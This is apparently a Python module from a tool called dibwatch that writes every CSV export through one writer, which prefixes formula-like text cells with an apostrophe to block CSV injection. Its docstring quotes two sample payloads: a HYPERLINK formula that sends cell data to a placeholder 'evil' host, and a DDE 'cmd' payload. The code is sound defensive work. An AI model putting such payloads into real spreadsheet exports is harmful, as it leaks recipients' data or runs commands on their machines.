"""The one CSV writer: every CSV file dibwatch writes goes through :class:`CsvWriter`.

List names, shipment descriptions and batch inputs come from people dibwatch does not trust.
A cell such as ``=HYPERLINK("http://evil/?"&A1, "click")`` or ``+cmd|' /C calc'!A0`` is a
formula to a spreadsheet that opens the export. OWASP's rule ("CSV injection") is applied to
every text cell: one that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
gets a leading apostrophe, so the spreadsheet shows it as text. Numbers are left alone:
typed ``int``/``float`` values, and text that is exactly a plain number (``-12.5``, ``+7``,
``1e-3``), which a spreadsheet reads as that number and never as a formula.

The apostrophe is visible to a program reading the CSV back; that is the price OWASP accepts.
Files meant as machine input rather than for a person (the synthetic world's source files)
still use this writer, and what they hold never starts with those characters.
"""

from __future__ import annotations

import csv
import os
import re
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from datetime import date, datetime
from pathlib import Path
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """``value`` made safe for a spreadsheet cell (see the module docstring)."""
    if value is None:
        return ""
    if isinstance(value, bool | int | float):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = value if isinstance(value, str) else str(value)
    if text.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class CsvWriter:
    """``csv.writer`` with every cell neutralised; RFC 4180 quoting and line ends."""

    def __init__(self, fh: IO[str], *, quote_all: bool = False,
                 lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(fh, quoting=csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL,
                                  lineterminator=lineterminator)
        self.rows = 0

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(v) for v in row])
        self.rows += 1

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)

    def writedicts(self, columns: Sequence[str], records: Iterable[dict[str, Any]]) -> None:
        for rec in records:
            self.writerow(rec.get(c) for c in columns)


def _opener(mode: int) -> Any:
    def opener(path: str, flags: int) -> int:
        return os.open(path, flags, mode)

    return opener


@contextmanager
def open_csv(path: str | Path, *, quote_all: bool = False, lineterminator: str = "\r\n",
             private: bool = False) -> Iterator[CsvWriter]:
    """A :class:`CsvWriter` on a new UTF-8 file at ``path``. ``private`` creates it readable
    by its owner only (0600): results of one user's job, say."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if private:
        path.unlink(missing_ok=True)  # the mode applies only to a file created now
    with open(path, "w", encoding="utf-8", newline="",
              opener=_opener(0o600) if private else None) as fh:
        yield CsvWriter(fh, quote_all=quote_all, lineterminator=lineterminator)


def write_csv(path: str | Path, columns: Sequence[str], rows: Iterable[Sequence[Any]], *,
              private: bool = False) -> int:
    """Write a header and rows; returns the number of data rows."""
    with open_csv(path, private=private) as out:
        out.writerow(columns)
        out.writerows(rows)
        return out.rows - 1


def write_dicts(path: str | Path, records: Sequence[dict[str, Any]], *,
                columns: Sequence[str] | None = None, private: bool = False) -> int:
    """Write records keyed by column; the columns are ``columns`` or every key in order of
    first appearance."""
    if columns is None:
        seen: dict[str, None] = {}
        for rec in records:
            seen.update(dict.fromkeys(rec))
        columns = list(seen)
    with open_csv(path, private=private) as out:
        out.writerow(columns)
        out.writedicts(columns, records)
        return out.rows - 1
